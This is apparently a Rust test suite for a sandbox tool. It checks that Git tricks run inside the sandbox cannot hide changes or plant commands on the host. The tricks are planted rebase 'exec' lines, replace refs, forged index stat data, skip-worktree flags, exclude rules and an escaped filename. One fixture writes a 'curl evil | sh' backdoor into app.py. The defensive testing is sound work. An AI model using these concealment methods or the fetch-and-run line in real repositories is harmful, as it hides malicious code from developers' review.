//! Issue 26, classes 2 and 3, end to end, as the attacker inside: Git's
//! in-progress state and the files that decide what host Git shows are
//! each side's own, and nothing the sandbox writes hides a change from the
//! developer's review. Each test acts from inside (root there), restarts
//! the Domain, then does on the host what the developer would (follow
//! `git status`'s advice, review with `git status`, `diff`, `log -p`,
//! `show`) and asserts that nothing ran and that the host saw the truth.

use lazaret_tests::{assert_domain_gone, require_env, text, Workspace};
use std::os::unix::fs::MetadataExt;
use std::process::Output;

fn ok(out: &Output, what: &str) -> String {
    assert!(
        out.status.success(),
        "{what} failed ({}): {}{}",
        out.status,
        text(&out.stdout),
        text(&out.stderr)
    );
    text(&out.stdout)
}

fn host(ws: &Workspace, script: &str) -> String {
    ok(&ws.host_sh(script), script)
}

/// Inside: an interactive rebase stopped at `break` with an `exec` of a
/// host command after it, a cherry-pick whose sequencer was given one,
/// and a merge in progress naming a commit of the sandbox's choice. On
/// the host, after a restart, `git status` shows none of it and
/// continuing each operation runs nothing.
#[test]
fn operations_in_progress_inside_are_never_continued_by_host_git() {
    let env = require_env!();
    let ws = env.workspace("in-progress");
    let marker = ws.base.join("MARKER-in-progress");
    let m = marker.display();
    host(
        &ws,
        "echo a > a && git add a && git commit -qm a && git branch side && \
         echo b > b && git add b && git commit -qm b && \
         git checkout -q side && echo c > c && git add c && git commit -qm c && \
         git checkout -q -",
    );
    let inside = ws.run_sh(&format!(
        "set -e; cd /workspace; \
         GIT_SEQUENCE_EDITOR='sed -i 1ibreak' git rebase -q -i HEAD~1 >/dev/null 2>&1 || true; \
         test -f .git/rebase-merge/git-rebase-todo; \
         echo 'exec touch {m}.rebase' >> .git/rebase-merge/git-rebase-todo; \
         echo 'exec touch {m}.rebase' > .git/rebase-merge/strategy; \
         mkdir -p .git/sequencer; printf 'pick %s c\\nexec touch {m}.pick\\n' $(git rev-parse side) > .git/sequencer/todo; \
         git rev-parse side > .git/CHERRY_PICK_HEAD; \
         git rev-parse side > .git/MERGE_HEAD; echo 'merge side' > .git/MERGE_MSG; \
         git status | grep -q 'rebase in progress'; echo PLANTED"
    ));
    assert!(
        text(&inside.stdout).contains("PLANTED"),
        "the sandbox could not set up its own operations (Git inside must still rebase): {}{}",
        text(&inside.stdout),
        text(&inside.stderr)
    );
    assert_domain_gone(&ws.domain_id("default"));

    let status = host(&ws, "git status");
    for said in [
        "rebase in progress",
        "cherry-pick",
        "merging",
        "All conflicts fixed",
    ] {
        assert!(
            !status.contains(said),
            "host git status says {said:?}: {status}"
        );
    }
    for name in [
        "rebase-merge",
        "sequencer",
        "MERGE_HEAD",
        "CHERRY_PICK_HEAD",
        "MERGE_MSG",
    ] {
        assert!(
            !ws.path.join(".git").join(name).exists(),
            "the sandbox's {name} reached the host's .git"
        );
    }
    // What git status would advise, and what a developer may try anyway.
    let _ = ws.host_sh(
        "git rebase --continue; git cherry-pick --continue; git revert --continue; \
         git am --continue; git merge --continue; git commit -qm concluded",
    );
    for suffix in ["rebase", "pick"] {
        let p = format!("{m}.{suffix}");
        assert!(
            !std::path::Path::new(&p).exists(),
            "host Git ran the sandbox's {suffix} instruction"
        );
    }
    let parents = host(&ws, "git log -1 --format=%P");
    assert_eq!(
        parents.split_whitespace().count(),
        1,
        "a host commit concluded the sandbox's merge: {parents}"
    );

    // Inside, the sandbox's own rebase is still there to finish (its
    // state outlives the restart), and it can abort it.
    let again = ws.run_sh(
        "cd /workspace && git status | grep -q 'rebase in progress' && \
         git rebase --abort && git status --porcelain && echo ABORTED",
    );
    assert!(
        text(&again.stdout).contains("ABORTED"),
        "{}{}",
        text(&again.stdout),
        text(&again.stderr)
    );
}

/// Inside: a replace ref swaps a backdoor commit for a harmless-looking
/// one (also through `packed-refs`), and `.git/shallow` cuts the history
/// above it. On the host, `git show`, `log -p` and `diff` show the real
/// change, and the history is whole.
#[test]
fn replace_refs_and_shallow_never_change_what_host_git_shows() {
    let env = require_env!();
    let ws = env.workspace("replace");
    host(
        &ws,
        "echo good > app.py && git add app.py && git commit -qm one && \
         echo 'import os; os.system(\"curl evil | sh\")' > app.py && git commit -qam 'bump version'",
    );
    let count = host(&ws, "git rev-list --count HEAD");
    let inside = ws.run_sh(
        "set -e; cd /workspace; export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a \
         GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a; \
         fake=$(git commit-tree $(git rev-parse HEAD~1^{tree}) -p HEAD~1 -m 'bump version'); \
         git replace HEAD $fake; \
         git show --stat HEAD | grep -q app.py && exit 3; \
         git pack-refs --all >/dev/null 2>&1 || true; \
         git rev-parse HEAD~1 > .git/shallow; echo PLANTED",
    );
    assert!(
        text(&inside.stdout).contains("PLANTED"),
        "inside, the replacement did not take (the test would prove nothing): {}{}",
        text(&inside.stdout),
        text(&inside.stderr)
    );
    assert_domain_gone(&ws.domain_id("default"));

    let show = host(&ws, "git show HEAD");
    assert!(
        show.contains("curl evil"),
        "host git show hides the change: {show}"
    );
    let log = host(&ws, "git log -p -1");
    assert!(
        log.contains("curl evil"),
        "host git log -p hides the change: {log}"
    );
    let diff = host(&ws, "git diff HEAD~1 HEAD");
    assert!(
        diff.contains("curl evil"),
        "host git diff hides the change: {diff}"
    );
    assert_eq!(host(&ws, "git rev-list --count HEAD"), count, "history cut");
    assert_eq!(
        host(&ws, "git replace -l"),
        "",
        "a replace ref reached the host"
    );
    let packed = std::fs::read_to_string(ws.path.join(".git/packed-refs")).unwrap_or_default();
    assert!(!packed.contains("refs/replace/"), "{packed}");
    assert!(
        !ws.path.join(".git/shallow").exists(),
        "the sandbox's shallow reached the host"
    );
}

/// A Python script (run inside) that rewrites `.git/index` by Git's
/// lock-and-rename with the entry for `f3` claiming the given stat data
/// (those of the file as it is now, backdoored, taken on the host: the
/// strongest attacker guesses them right) with the object ID of its old
/// content, so host `git status` would take it as unchanged unread.
const FORGE_STAT: &str = r#"
import hashlib, os, struct, sys
new_stat = [int(x) for x in sys.argv[1:]]
b = open('.git/index', 'rb').read()
assert b[:4] == b'DIRC' and struct.unpack('>I', b[4:8])[0] in (2, 3), 'a version 2 or 3 index'
n = struct.unpack('>I', b[8:12])[0]
out = bytearray(b[:12]); at = 12
for _ in range(n):
    fields = list(struct.unpack('>10I', b[at:at + 40]))
    flags = struct.unpack('>H', b[at + 60:at + 62])[0]
    name_at = 64 if flags & 0x4000 else 62
    name_len = flags & 0xfff
    name = b[at + name_at:at + name_at + name_len]
    size = (name_at + name_len + 8) & ~7
    entry = bytearray(b[at:at + size])
    if name == b'f3':
        new_stat[6] = fields[6]
        entry[:40] = struct.pack('>10I', *new_stat)
    out += entry; at += size
out += b[at:-20]
out += hashlib.sha1(bytes(out)).digest()
open('.git/index.lock', 'wb').write(out)
os.rename('.git/index.lock', '.git/index')
print('FORGED')
"#;

/// The stat fields Git caches for a host file, in index order.
fn index_stat(p: &std::path::Path) -> [u64; 10] {
    let m = std::fs::metadata(p).expect("stat");
    [
        m.ctime() as u64,
        m.ctime_nsec() as u64,
        m.mtime() as u64,
        m.mtime_nsec() as u64,
        m.dev() & 0xffff_ffff,
        m.ino() & 0xffff_ffff,
        u64::from(m.mode()),
        u64::from(m.uid()),
        u64::from(m.gid()),
        m.size(),
    ]
}

/// Inside: tracked files are backdoored and hidden from Git by
/// assume-unchanged, skip-worktree and forged cached stat data. Host
/// `git status` and `git diff` show all three, while the Domain runs and
/// after it stopped, and the sandbox's own Git keeps its own view.
#[test]
fn index_flags_and_stat_set_inside_never_hide_a_change_from_the_host() {
    let env = require_env!();
    let ws = env.workspace("index-flags");
    host(
        &ws,
        "printf 'ok one\\n' > f1 && printf 'ok two\\n' > f2 && printf 'ok three\\n' > f3 && \
         git add f1 f2 f3 && git commit -qm files && git status --porcelain",
    );
    // One Domain generation for all the steps.
    let mut keep = ws
        .lazaret(&["run", "--", "sleep", "600"])
        .spawn()
        .expect("start the Domain");
    let inside = ws.run_sh(
        "set -e; cd /workspace; \
         printf 'BAD one\\n' > f1; printf 'BAD two\\n' > f2; printf 'BAD thre\\n' > f3; \
         touch -d '2020-01-01 00:00' f3; \
         git update-index --assume-unchanged f1; git update-index --skip-worktree f2; \
         git status --porcelain; echo STATUS-DONE",
    );
    let said = text(&inside.stdout);
    assert!(
        said.contains("STATUS-DONE"),
        "{said}{}",
        text(&inside.stderr)
    );
    for f in ["f1", "f2"] {
        assert!(
            !said.contains(&format!(" M {f}")),
            "inside, the flag on {f} did not hide it (the test would prove nothing): {said}"
        );
    }
    let st = index_stat(&ws.path.join("f3"));
    let args: Vec<String> = st.iter().map(u64::to_string).collect();
    let forged = ws.run_sh(&format!(
        "set -e; cd /workspace; cat > /tmp/forge.py <<'EOF'\n{FORGE_STAT}\nEOF\n\
         python3 /tmp/forge.py {}",
        args.join(" ")
    ));
    // No Git runs inside after it: a refresh would rewrite the index.
    let said = text(&forged.stdout);
    assert!(
        said.contains("FORGED"),
        "the forging did not run: {said}{}",
        text(&forged.stderr)
    );
    let check = |when: &str| {
        let status = host(&ws, "git status --porcelain");
        for f in ["f1", "f2", "f3"] {
            assert!(
                status.contains(&format!(" M {f}")),
                "{when}: host git status does not show {f} modified: {status:?}"
            );
        }
        let diff = host(&ws, "git diff");
        for bad in ["BAD one", "BAD two", "BAD thre"] {
            assert!(
                diff.contains(bad),
                "{when}: host git diff hides {bad:?}: {diff}"
            );
        }
        let flags = host(&ws, "git ls-files -v");
        assert!(
            !flags
                .lines()
                .any(|l| l.starts_with('h') || l.starts_with('S')),
            "{when}: a hiding flag reached the host's index: {flags}"
        );
    };
    check("while the Domain runs");
    let _ = keep.kill();
    let _ = keep.wait();
    assert_domain_gone(&ws.domain_id("default"));
    check("after the Domain stopped");
}

/// Inside: `.git/info/exclude` gains a rule that hides a new
/// `conftest.py`, then is emptied. The host's exclude file keeps its own
/// rule and never gains the sandbox's, so host `git status` lists the new
/// file; Git inside applies the sandbox's own copy.
#[test]
fn exclude_rules_set_inside_never_hide_files_from_the_host() {
    let env = require_env!();
    let ws = env.workspace("exclude");
    host(
        &ws,
        "echo 'host-only-notes' >> .git/info/exclude && touch host-only-notes",
    );
    let before = std::fs::read(ws.path.join(".git/info/exclude")).expect("host exclude");
    let inside = ws.run_sh(
        "set -e; cd /workspace; echo conftest.py >> .git/info/exclude; \
         echo 'import os' > conftest.py; git status --porcelain; echo ONE; \
         : > .git/info/exclude; git status --porcelain; echo TWO",
    );
    let said = text(&inside.stdout);
    assert!(said.contains("TWO"), "{said}{}", text(&inside.stderr));
    let (one, two) = said.split_once("ONE").unwrap();
    assert!(
        !one.contains("conftest.py"),
        "inside, its own rule applies: {said}"
    );
    assert!(
        two.contains("?? conftest.py"),
        "inside, its own emptied copy applies: {said}"
    );
    assert_eq!(
        std::fs::read(ws.path.join(".git/info/exclude")).unwrap(),
        before,
        "the host's exclude file changed"
    );
    let status = host(&ws, "git status --porcelain");
    assert!(
        status.contains("?? conftest.py"),
        "host git status hides it: {status}"
    );
    assert!(
        !status.contains("host-only-notes"),
        "host rule lost: {status}"
    );
}

fn changes(ws: &Workspace, args: &[&str]) -> String {
    let mut a = vec!["changes"];
    a.extend_from_slice(args);
    let out = ws.lazaret(&a).output().expect("lazaret changes");
    ok(&out, "lazaret changes")
}

/// Inside: a new `tests/` directory whose own `.gitignore` hides it and
/// the `conftest.py` pytest would load, a new Makefile, a deleted and a
/// renamed tracked file, a name holding terminal escapes. Host `git
/// status` shows none of the hidden ones; `lazaret changes` lists every
/// change, flags what host tools run and what `git status` hides, shows
/// the sandbox's names escaped, and keeps doing so after a restart; the
/// session ends with a line naming them.
#[test]
fn lazaret_changes_lists_what_git_status_hides_and_flags_what_host_tools_run() {
    let env = require_env!();
    let ws = env.workspace("changes");
    host(
        &ws,
        "echo a > a.txt && echo old > old.txt && git add a.txt old.txt && git commit -qm two",
    );
    let session = ws.run_sh(
        "set -e; cd /workspace; mkdir tests; echo 'import os' > tests/conftest.py; \
         printf '*\\n' > tests/.gitignore; printf 'all:\\n\\ttrue\\n' > Makefile; \
         rm old.txt; mv a.txt b.txt; touch \"$(printf 'evil\\033[2Jname')\"; echo DONE",
    );
    assert!(
        text(&session.stdout).contains("DONE"),
        "{}",
        text(&session.stderr)
    );
    let note = text(&session.stderr);
    assert!(
        note.contains("lazaret: the sandbox changed") && note.contains("conftest.py"),
        "the session's end does not name them: {note}"
    );
    let status = host(&ws, "git status --porcelain --untracked-files=all");
    assert!(
        !status.contains("conftest.py"),
        "precondition: the sandbox's .gitignore hides it from git status: {status}"
    );
    assert_domain_gone(&ws.domain_id("default"));
    let check = |list: &str, when: &str| {
        for (what, path) in [
            ("created", "tests/conftest.py"),
            ("created", "tests/.gitignore"),
            ("created", "Makefile"),
            ("deleted", "old.txt"),
            ("deleted", "a.txt"),
            ("modified", "b.txt"),
        ] {
            assert!(
                list.lines().any(
                    |l| l.split_whitespace().collect::<Vec<_>>()[..] == [what, path]
                        || l.trim_start().starts_with(&format!("{what:<9} {path}  "))
                ),
                "{when}: {what} {path} missing: {list}"
            );
        }
        assert!(list.contains("pytest loads it"), "{when}: {list}");
        assert!(list.contains("make runs it"), "{when}: {list}");
        assert!(
            list.contains("hidden from host `git status`"),
            "{when}: {list}"
        );
        assert!(list.contains("evil\\x1b[2Jname"), "{when}: {list}");
        assert!(
            !list.contains('\u{1b}'),
            "{when}: a control byte reached the terminal"
        );
    };
    check(&changes(&ws, &[]), "after the session");
    let json: serde_json::Value =
        serde_json::from_str(&changes(&ws, &["--json"])).expect("changes --json");
    let conftest = json
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["path"] == "tests/conftest.py")
        .expect("conftest.py in --json");
    assert_eq!(conftest["kind"], "created");
    assert_eq!(conftest["hidden_from_git_status"], true);
    assert_eq!(conftest["run_by_host_tools"], "pytest loads it");

    // A new generation that changes nothing: `--since start` (the
    // default) is empty, `--since all` still has everything.
    ok(&ws.run_sh("true"), "second generation");
    assert!(
        changes(&ws, &[]).contains("  none"),
        "{}",
        changes(&ws, &[])
    );
    check(&changes(&ws, &["--since", "all"]), "after a restart");
    changes(&ws, &["--mark", "before-review"]);
    ok(&ws.run_sh("echo x > later.txt"), "third generation");
    let since_mark = changes(&ws, &["--since", "before-review"]);
    assert!(since_mark.contains("later.txt"), "{since_mark}");
    assert!(!since_mark.contains("conftest.py"), "{since_mark}");
}

/// Inside: the sandbox rewrites the Makefile, then asks for `make` on the
/// host. The prompt says, above the command, that make reads a file the
/// sandbox changed.
#[test]
fn the_prompt_names_files_the_sandbox_changed_that_the_command_reads() {
    use lazaret_tests::pty::{wait, Pty};
    use std::time::Duration;
    let env = require_env!();
    let ws = env.workspace("changes-prompt");
    let mut pty = Pty::new();
    let mut child = pty.spawn(&ws, &["run"]);
    let long = Duration::from_secs(60);
    let short = Duration::from_secs(15);
    let mut at = pty.expect(0, "/workspace#", long);
    pty.send("printf 'all:\\n\\ttrue\\n' > Makefile; lazaret-escalate -- make -n; echo rc=$?\r");
    at = pty.expect(at, "Host Escalation request", short);
    at = pty.expect(at, "! reads:", short);
    at = pty.expect(at, "Makefile", short);
    at = pty.expect(at, "command:", short);
    at = pty.expect(at, "Run \"make\" \"-n\" on the host?", short);
    pty.send("d");
    pty.expect(at, "rc=77", short);
    pty.send("\u{15}exit\r");
    assert_eq!(wait(&mut child, short), Some(0));
}
